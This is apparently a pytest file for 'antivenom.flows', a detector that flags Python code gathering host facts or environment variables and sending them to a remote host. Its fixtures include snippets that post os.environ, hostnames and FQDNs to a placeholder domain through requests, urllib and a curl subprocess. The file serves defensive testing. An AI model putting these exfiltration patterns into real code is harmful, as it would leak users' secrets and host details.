"""Host facts collected in one function and sent from another (antivenom.flows)."""

from __future__ import annotations

import textwrap

import pytest
from antivenom import flows


def lines_of(source: str) -> list[int]:
    return [line for line, _, _ in flows.find(textwrap.dedent(source).encode())]


def test_collector_posted_by_another_function_is_a_flow():
    source = """\
        import os, socket, requests
        def facts():
            return {"h": socket.gethostname(), "cwd": os.getcwd()}
        def send():
            data = facts()
            requests.post("https://example.invalid/c", json=data)
        """
    assert lines_of(source) == [6]


def test_collector_called_inside_the_sink_arguments():
    source = """\
        import os, urllib.request
        def env():
            return "&".join(f"{k}={v}" for k, v in os.environ.items())
        urllib.request.urlopen("https://example.invalid/?" + env())
        """
    assert lines_of(source) == [4]


def test_one_variable_read_or_no_sink_is_not_a_flow():
    source = """\
        import os, socket, logging
        def home():
            return os.environ["HOME"]
        def name():
            return socket.gethostname()
        def show():
            logging.info("host %s", name())
            requests.get("https://example.invalid/" + home())
        """
    assert lines_of(source) == []


def test_deep_or_broken_source_does_not_raise():
    assert flows.find(b"x = " + b"+".join(b"'a'" for _ in range(3000))) == []
    assert flows.find(b"def broken(:\n") == []


def test_environment_handed_to_a_child_process_is_configuration_not_a_flow():
    source = """\
        import os, subprocess
        def child_env():
            env = dict(os.environ)
            env["LANG"] = "C"
            return env
        def start(cmd):
            subprocess.Popen(cmd, env=child_env(), cwd="/tmp")
        def leak():
            subprocess.run(["curl", "-d", str(child_env()), "https://example.invalid/"])
        """
    assert lines_of(source) == [9]


SPELLINGS_OF_A_SOURCE = [
    "socket.{name}()", "socket.{name} ()", "(socket.{name})()", "socket.{name} \\\n ()",
    "x = (socket.{name}  # why\n)()", "from socket import {name}\n{name}()",
]


@pytest.mark.parametrize("name", sorted(flows._SOURCES))
@pytest.mark.parametrize("spelling", SPELLINGS_OF_A_SOURCE)
def test_text_gate_passes_every_spelling_of_a_source_call(name, spelling):
    """The gate in front of the parse must be a necessary condition: every way CPython lets a
    source call be written passes it, or a real flow would go unseen."""
    assert flows.may_have_sources(spelling.format(name=name).encode())


@pytest.mark.parametrize("text", ["x = os.environ", "x = os . environ", "x = (os).environ", "x = (os.\n environ)"])
def test_text_gate_passes_every_spelling_of_os_environ(text):
    assert flows.may_have_sources(text.encode())


@pytest.mark.parametrize("text", ["nodes = []", "env = environ.get('HOME')", "def uname_of(x): pass",
                                  "# gethostname is a function"])
def test_text_gate_keeps_files_without_a_source_call_from_the_parse(text):
    assert not flows.may_have_sources(text.encode())


def test_a_flow_from_a_spaced_getfqdn_call_is_found():
    source = """\
        import socket, requests
        def fqdn():
            return socket.getfqdn ()
        def beacon():
            requests.post("https://example.invalid/b", data=fqdn())
        """
    assert lines_of(source) == [5]
